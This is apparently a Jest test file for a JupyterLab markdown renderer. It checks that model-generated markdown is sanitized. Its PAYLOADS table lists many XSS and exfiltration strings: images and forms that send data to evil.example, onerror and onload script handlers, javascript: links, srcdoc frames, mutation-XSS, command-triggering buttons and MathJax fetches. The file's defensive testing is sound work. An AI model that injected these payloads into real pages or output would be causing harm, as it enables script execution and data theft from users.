import { Sanitizer } from '@jupyterlab/apputils';
import { EditorLanguageRegistry } from '@jupyterlab/codemirror';
import { createMarkdownParser } from '@jupyterlab/markedparser-extension';

import { Markdown } from '../../src/render/markdown';

/** Diagrams are drawn in the live page while markdown is parsed; none of a model's may be. */
const drawn: string[] = [];
const typeset: string[] = [];

const tools = {
  markdownParser: createMarkdownParser(new EditorLanguageRegistry(), {
    blocks: [
      {
        languages: ['mermaid'],
        rank: 0,
        walk: (text: string) => {
          drawn.push(text);
          return Promise.resolve();
        },
        render: () => '<img src="https://evil.example/diagram.png">'
      }
    ]
  }),
  sanitizer: new Sanitizer(),
  latexTypesetter: {
    typeset: (node: HTMLElement) => void typeset.push(node.textContent ?? '')
  }
};
const words = { picture: (alt: string) => `picture: ${alt}` };
const markdown = new Markdown(tools, words);

beforeEach(() => {
  drawn.length = 0;
  typeset.length = 0;
});

async function draw(source: string): Promise<HTMLElement> {
  const host = document.createElement('div');
  host.append(await markdown.render(source));
  markdown.typeset(host);
  return host;
}

const TAGS = new Set(
  (
    'P BR HR BLOCKQUOTE PRE CODE EM STRONG B I U S DEL INS SUB SUP SMALL KBD SAMP VAR MARK ABBR Q CITE UL OL ' +
    'LI DL DT DD TABLE THEAD TBODY TFOOT TR TH TD CAPTION DETAILS SUMMARY DIV SPAN A IMG H4 H5 H6'
  ).split(' ')
);
const ATTRIBUTES: Partial<Record<string, RegExp>> = {
  href: /^https?:\/\/[^/]/,
  title: /^https?:/,
  target: /^_blank$/,
  rel: /^noopener noreferrer$/,
  class: /^(?:jp-CaveLab-\w+|ͼ\w+| )*$/,
  start: /^\d+$/,
  align: /^(?:left|center|right)$/,
  tabindex: /^0$/,
  alt: /^/,
  src: /^data:image\/(?:png|gif|jpeg|webp|avif);base64,/
};

/** What in a drawing could load, run or pose as something else. */
function harm(host: Element): string[] {
  return [...host.querySelectorAll('*')].flatMap(node => [
    ...(TAGS.has(node.tagName) ? [] : [node.tagName]),
    ...[...node.attributes]
      .filter(({ name, value }) => !ATTRIBUTES[name]?.test(value))
      .map(({ name, value }) => `${node.tagName}[${name}=${value}]`)
  ]);
}

const PAYLOADS: Record<string, string> = {
  'a picture': '![x](https://evil.example/p.png?q=secret)',
  'a picture by reference': '![x][r]\n\n[r]: https://evil.example/p.png',
  'a picture in HTML': '<img src="https://evil.example/p.png">',
  'a picture of no protocol': '<img src="//evil.example/p.png">',
  'a picture of this server': '<img src="/lab/api/x?leak=1">',
  'a picture with a set of sources':
    '<img srcset="https://evil.example/p.png 2x" src="x.png">',
  'a picture with sources':
    '<picture><source srcset="https://evil.example/a"><img src="https://evil.example/b"></picture>',
  'a picture that fails': '<img src=x onerror="alert(1)">',
  'a picture loaded lazily':
    '<img loading="lazy" data-src="https://evil.example/x">',
  'a picture of SVG': '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  'an input that is a picture':
    '<input type="image" src="https://evil.example/p.png">',
  'a style': '<p style="background:url(https://evil.example/p.png)">x</p>',
  'a style sheet':
    '<style>body{background:url(https://evil.example/p.png)}</style>',
  'a linked style sheet':
    '<link rel="stylesheet" href="https://evil.example/s.css">',
  'a background': '<table background="https://evil.example/p.png"></table>',
  'SVG that refers': '<svg><image href="https://evil.example/p.png"/></svg>',
  'SVG that uses':
    '<svg><use xlink:href="https://evil.example/s.svg#a"/></svg>',
  'SVG that runs': '<svg onload="alert(1)"><script>alert(1)</script></svg>',
  'a script': '<script src="https://evil.example/x.js"></script>',
  'a script in a link': '[x](javascript:alert(1))',
  'a script in a link, disguised': '[x](java&#115;cript:alert(1))',
  'a page in a link': '[x](data:text/html,<script>alert(1)</script>)',
  'a frame': '<iframe src="https://evil.example/"></iframe>',
  'a frame with a page': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'an object': '<object data="https://evil.example/"></object>',
  'an embedded thing': '<embed src="https://evil.example/">',
  'a film':
    '<video src="https://evil.example/v" poster="https://evil.example/p"></video>',
  'a sound': '<audio autoplay src="https://evil.example/a"></audio>',
  'a form':
    '<form action="https://evil.example/"><input name="a"><button>Go</button></form>',
  'a command':
    '<button data-commandlinker-command="apputils:reset" data-commandlinker-args="{}">x</button>',
  'a command in a link':
    '<a data-commandlinker-command="apputils:reset" href="#">x</a>',
  'a link that prefetches':
    '<link rel="prefetch" href="https://evil.example/x">',
  'another base': '<base href="https://evil.example/">',
  'a refresh':
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  'a class of JupyterLab': '<div class="jp-Dialog">Sign in again</div>',
  'an id': '<div id="main">x</div>',
  'something to edit': '<p contenteditable autofocus onfocus="alert(1)">x</p>',
  'MathML that links':
    '<math><maction actiontype="statusline" href="javascript:alert(1)">x</maction></math>',
  'a mutation': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  'a template': '<template><img src="https://evil.example/p.png"></template>',
  'a diagram':
    '```mermaid\nflowchart LR\n A@{ img: "https://evil.example/" }\n```',
  'a diagram, indented': '- x\n\n  ~~~~ \u00a0MERMAID\n  graph\n  ~~~~',
  'a formula that fetches':
    '$\\mmlToken{mglyph}[src="https://evil.example/p.png"]{}$',
  'a formula that links': '$$\\href{https://evil.example}{x}$$',
  'a formula that defines': '\\(\\def\\x{\\mmlToken}\\x{mglyph}\\)',
  'a formula in an address':
    '[x](https://a.example/$a$) ![$b$](https://b.example/$c$)',
  'a formula in a tag': '<p title="$a$">$b$</p>'
};

describe('markdown of a model', () => {
  it.each(Object.entries(PAYLOADS))(
    'holds nothing that loads, runs or poses: %s',
    async (_, source) => {
      const host = await draw(source);
      expect(harm(host)).toEqual([]);
      expect(drawn).toEqual([]);
      expect(typeset.filter(tex => /\\(?:mml|href|def)/.test(tex))).toEqual([]);
    }
  );

  it('is looked through by a check that bites', () => {
    const raw = document.implementation.createHTMLDocument().body;
    raw.innerHTML = Object.values(PAYLOADS).join('');
    expect(harm(raw).length).toBeGreaterThan(25);
  });

  it('puts words and a link in the place of a picture', async () => {
    const host = await draw('![sales](https://evil.example/p.png)');
    const link = host.querySelector('a')!;
    expect(link.textContent).toBe('picture: sales');
    expect(link.href).toBe('https://evil.example/p.png');
  });

  it('shows a picture that is in the text itself', async () => {
    const src = 'data:image/png;base64,iVBORw0KGgo=';
    const host = await draw(`![dot](${src})`);
    expect(host.querySelector('img')!.getAttribute('src')).toBe(src);
  });

  it('opens links elsewhere, with their address as a hint', async () => {
    const link = (
      await draw('[docs](https://pandas.pydata.org/x)')
    ).querySelector('a')!;
    expect([link.target, link.rel, link.title]).toEqual([
      '_blank',
      'noopener noreferrer',
      'https://pandas.pydata.org/x'
    ]);
  });

  it('keeps the words of a link that leads nowhere', async () => {
    const host = await draw('[run it](#/command)');
    expect(host.textContent?.trim()).toBe('run it');
    expect(host.querySelector('a')).toBeNull();
  });

  it('typesets formulas and leaves amounts of money alone', async () => {
    const host = await draw(
      'From $5 to $6, or $a^2$, and \\[b\\]\n\n```py\n"$c$"\n```\n\n`$d$` $$e$$'
    );
    expect(typeset).toEqual(['\\(a^2\\)', '\\[b\\]', '\\[e\\]']);
    expect(host.textContent).toContain('From $5 to $6');
    expect(host.querySelector('pre')!.textContent?.trim()).toBe('"$c$"');
    expect(host.textContent).toContain('$d$');
  });

  it('shows a refused formula as it was written', async () => {
    const host = await draw('$\\href{https://evil.example}{x}$');
    expect(host.querySelector('code')!.textContent).toBe(
      '$\\href{https://evil.example}{x}$'
    );
  });

  it('keeps headings below those of the panel, without gaps', async () => {
    const host = await draw('# one\n\n### two\n\n# three');
    const heads = [...host.querySelectorAll('h4, h5, h6')];
    expect(heads.map(head => head.tagName)).toEqual(['H4', 'H5', 'H4']);
  });

  it('is lists, tables and code, as markdown says', async () => {
    const host = await draw(
      '3. a\n4. b\n\n- [x] done\n\n|a|b|\n|:-|-:|\n|1|2|\n\n```py\nx\n```'
    );
    expect(host.querySelector('ol')!.start).toBe(3);
    expect(host.textContent).toContain('☑ done');
    expect(host.querySelector('td[align="right"]')!.textContent).toBe('2');
    expect(host.querySelector('pre > code')!.textContent?.trim()).toBe('x');
  });

  it('is plain text without a parser', async () => {
    const bare = new Markdown({ ...tools, markdownParser: null }, words);
    const host = document.createElement('div');
    host.append(await bare.render('<img src=x> **a**'));
    expect(host.textContent).toBe('<img src=x> **a**');
  });

  it('survives nesting that nobody writes', async () => {
    const host = await draw('<div>'.repeat(2_000) + 'deep');
    expect(host.textContent).toContain('deep');
    expect(harm(host)).toEqual([]);
  });
});
